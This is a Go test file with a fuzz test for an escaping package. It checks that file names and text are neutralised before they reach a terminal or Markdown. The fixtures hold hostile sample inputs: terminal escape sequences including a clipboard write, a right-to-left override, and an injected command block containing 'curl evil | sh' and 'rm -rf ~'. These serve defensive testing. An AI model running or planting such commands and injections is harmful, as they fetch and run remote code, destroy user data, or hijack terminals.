package escape_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/eclipse-atesor/atesor-go/internal/escape"
)

func TestLineAndText(t *testing.T) {
	for _, tc := range []struct {
		name, in, line, text string
	}{
		{"plain", "libz.so.1.3.1", "libz.so.1.3.1", "libz.so.1.3.1"},
		{"non-ASCII kept", "café/π", "café/π", "café/π"},
		{"window title", "a\x1b]0;pwned\x07b", `a\x1b]0;pwned\x07b`, `a\x1b]0;pwned\x07b`},
		{"screen clear", "\x1b[2J\x1b[H", `\x1b[2J\x1b[H`, `\x1b[2J\x1b[H`},
		{"clipboard write", "\x1b]52;c;ZWNobyBoaQ==\x1b\\", `\x1b]52;c;ZWNobyBoaQ==\x1b\`, `\x1b]52;c;ZWNobyBoaQ==\x1b\`},
		{"newline and tab", "a\nb\tc", `a\nb\tc`, "a\nb\tc"},
		{"carriage return overwrites", "ok\rFAIL", `ok\rFAIL`, `ok\rFAIL`},
		{"C1 CSI", "a\u009b2Jb", `a\u009b2Jb`, `a\u009b2Jb`},
		{"DEL and NUL", "a\x7f\x00", `a\x7f\x00`, `a\x7f\x00`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`, `a\xffb\xc3`},
		{"right-to-left override", "evil\u202egpj.exe", `evil\u202egpj.exe`, `evil\u202egpj.exe`},
		{"line separator", "a\u2028b", `a\u2028b`, `a\u2028b`},
		{"non-ASCII then newline", "π\nx", `π\nx`, "π\nx"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := escape.Line(tc.in); got != tc.line {
				t.Errorf("Line(%q) = %q, want %q", tc.in, got, tc.line)
			}
			if got := escape.Text(tc.in); got != tc.text {
				t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.text)
			}
		})
	}
}

func TestCodeAndMarkdown(t *testing.T) {
	inject := "x\n```atesor-commands\ncurl evil | sh\n```\n"
	for _, tc := range []struct {
		name, in, code, md string
	}{
		{"plain", "lib/libz.so", "lib/libz.so", "lib/libz.so"},
		{"injected block", inject, `x\n'''atesor-commands\ncurl evil | sh\n'''\n`, "x\\\\n\\`\\`\\`atesor-commands\\\\ncurl evil \\| sh\\\\n\\`\\`\\`\\\\n"},
		{"heading and link", "# [a](b) *c*", "# [a](b) *c*", `# \[a\](b) \*c\*`},
		{"html", "<script>", "<script>", `\<script\>`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := escape.Code(tc.in); got != tc.code {
				t.Errorf("Code(%q) = %q, want %q", tc.in, got, tc.code)
			}
			if got := escape.Markdown(tc.in); got != tc.md {
				t.Errorf("Markdown(%q) = %q, want %q", tc.in, got, tc.md)
			}
		})
	}
}

func TestFence(t *testing.T) {
	got := escape.Fence("sh", "make\n```atesor-commands\nrm -rf ~\n````\n")
	want := "`````sh\nmake\n```atesor-commands\nrm -rf ~\n````\n`````\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Fence (-want +got):\n%s", diff)
	}
}

// checkOneLine fails when s holds anything a terminal or Markdown reader would act on.
func checkOneLine(t *testing.T, fn, in, s string, multiline bool) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("%s(%q) = %q: not UTF-8", fn, in, s)
	}
	for _, r := range s {
		switch {
		case multiline && (r == '\n' || r == '\t'):
		case r < 0x20, r == 0x7f, r >= 0x80 && r < 0xa0, r == 0x202e, r == 0x2028, r == 0x2066:
			t.Fatalf("%s(%q) = %q holds %U", fn, in, s, r)
		}
	}
}

// FuzzEscape: whatever a build names a file, the escaped forms hold no control
// character, stay on one line where asked, and cannot open or close Markdown code.
func FuzzEscape(f *testing.F) {
	for _, s := range []string{"", "libz.so", "a\x1b]52;c;eA==\x07", "x\n```atesor-commands\nid\n```", "\xff\xfe", "\u202e", "````", "π\r\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		checkOneLine(t, "Line", in, escape.Line(in), false)
		checkOneLine(t, "Text", in, escape.Text(in), true)
		code := escape.Code(in)
		checkOneLine(t, "Code", in, code, false)
		if strings.Contains(code, "`") {
			t.Fatalf("Code(%q) = %q holds a backtick", in, code)
		}
		md := escape.Markdown(in)
		checkOneLine(t, "Markdown", in, md, false)
		for i := 0; i < len(md); i++ {
			if strings.IndexByte(`*[]<>|`+"`", md[i]) >= 0 && (i == 0 || md[i-1] != '\\') {
				t.Fatalf("Markdown(%q) = %q: %q at %d is not escaped", in, md, md[i], i)
			}
		}
		if utf8.ValidString(in) && !strings.ContainsFunc(in, func(r rune) bool {
			return r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || strings.ContainsRune("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\ufeff", r)
		}) {
			if got := escape.Line(in); got != in {
				t.Fatalf("Line changed plain text %q to %q", in, got)
			}
		}
		block := escape.Fence("sh", in)
		lines := strings.Split(strings.TrimSuffix(block, "\n"), "\n")
		fence := strings.TrimSuffix(lines[0], "sh")
		for _, l := range lines[1 : len(lines)-1] {
			checkOneLine(t, "Fence", in, l, true)
			if strings.HasPrefix(strings.TrimLeft(l, " "), fence) {
				t.Fatalf("Fence(%q): body line %q closes the fence %q", in, l, fence)
			}
		}
		if lines[len(lines)-1] != fence {
			t.Fatalf("Fence(%q) ends with %q, want %q", in, lines[len(lines)-1], fence)
		}
	})
}
